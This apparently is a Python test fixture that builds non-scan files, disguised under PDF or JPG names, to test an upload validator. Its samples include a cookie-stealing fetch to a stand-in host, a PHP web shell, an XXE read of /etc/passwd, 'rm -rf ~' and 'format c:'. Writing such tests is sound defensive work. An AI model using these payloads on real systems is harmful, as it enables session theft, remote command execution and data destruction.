"""Files that are no scans, under their own names and under those of scans."""

import bz2
import gzip
import lzma
import struct
import tarfile
from io import BytesIO

from tests.uploads.making import Upload, archive, packed, sheet

SCRIPT = "<script>alert(document.cookie)</script>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg">{}<rect width="9" height="9"/></svg>'
#: The harmless file that every scanner of viruses reports, put together so that this one is not.
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
_MACROS = "Attribut\x00e VB_Nam\x00e = AutoOpen"


def _tar() -> bytes:
    target = BytesIO()
    with tarfile.open(fileobj=target, mode="w") as opened:
        opened.addfile(tarfile.TarInfo("giay.pdf"))
    return target.getvalue()


def _office(kind: str, **more: str) -> bytes:
    return archive(**{"[Content_Types]__xml": "<Types/>", f"{kind}___document__xml": "<a/>"} | more)


#: The ending of each kind with such a file.
OTHERS: dict[str, bytes] = {
    "docx": _office("word"),
    "docm": _office("word", word___vbaProject__bin=_MACROS),
    "xlsx": _office("xl"),
    "xlsm": _office("xl", xl___vbaProject__bin=_MACROS),
    "pptm": _office("ppt", ppt___vbaProject__bin=_MACROS),
    "odt": archive(mimetype="application/vnd.oasis.opendocument.text", Basic___script__xml="<a/>"),
    "doc": _OLE + "Macros/VBA".encode("utf-16-le"),
    "xls": _OLE + "_VBA_PROJECT_CUR".encode("utf-16-le"),
    "msi": _OLE + b"MsiInstaller",
    "rtf": rb"{\rtf1{\object\objemb\objupdate{\*\objdata 0105}}}",
    "svg": SVG.format(SCRIPT).encode(),
    "svgz": gzip.compress(SVG.format(SCRIPT).encode()),
    "html": f"<!DOCTYPE html><html>{SCRIPT}</html>".encode(),
    "htm": b"\xef\xbb\xbf  <html><body onload=alert(1)>",
    "xhtml": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>',
    "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "hta": b"<hta:application><script language=vbscript>",
    "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x",
    "js": b"fetch('//example.test/'+document.cookie)",
    "vbs": b'CreateObject("WScript.Shell").Run "calc"',
    "bat": b"@echo off\r\nformat c:",
    "ps1": b"Invoke-Expression (New-Object Net.WebClient)",
    "sh": b"#!/bin/sh\nrm -rf ~",
    "php": b"<?php system($_GET['c']);",
    "exe": b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.",
    "so": b"\x7fELF\x02\x01\x01" + bytes(200),
    "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + bytes(60),
    "jar": archive(**{"META-INF___MANIFEST__MF": "Main-Class: A", "A__class": "x"}),
    "apk": archive(AndroidManifest__xml="x", classes__dex="dex"),
    "lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
    "url": b"[InternetShortcut]\r\nURL=file://example.test/x",
    "swf": b"CWS\x0a" + bytes(60),
    "zip": archive(giay__pdf="%PDF-1.7"),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(60),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(60),
    "gz": gzip.compress(b"%PDF-1.7"),
    "bz2": bz2.compress(b"%PDF-1.7"),
    "xz": lzma.compress(b"%PDF-1.7"),
    "tar": _tar(),
    "cab": b"MSCF" + bytes(60),
    "iso": bytes(0x8001) + b"CD001" + bytes(60),
    "gif": packed(sheet(), "GIF"),
    "bmp": packed(sheet(), "BMP"),
    "webp": packed(sheet(), "WEBP"),
    "ico": packed(sheet(), "ICO"),
    "jp2": packed(sheet(), "JPEG2000"),
    "avif": packed(sheet(), "AVIF"),
    "heic": b"\x00\x00\x00\x18ftypheic" + bytes(60),
    "psd": b"8BPS\x00\x01" + bytes(60),
    "mp4": b"\x00\x00\x00\x18ftypmp42" + bytes(60),
    "mp3": b"ID3\x03\x00" + bytes(60),
    "ps": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file",
    "djvu": b"AT&TFORM" + struct.pack(">L", 60) + b"DJVU" + bytes(60),
    "eml": b"From: a@example.test\r\nSubject: x\r\n\r\n",
    "txt": "Kính gửi: Chủ tịch".encode(),
    "bin": bytes(range(256)) * 8,
    "com": EICAR,
    "fdf": b"%FDF-1.2\n1 0 obj<</FDF<</JavaScript<<>>>>>>endobj",
    "xdp": b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>',
}

DISGUISED = [
    Upload(name, content, "không phải là PDF, JPEG, PNG hoặc TIFF")
    for ending, content in OTHERS.items()
    for name in (f"đơn tố cáo.{ending}", f"giay-{ending}.pdf", f"anh-{ending}.jpg")
]
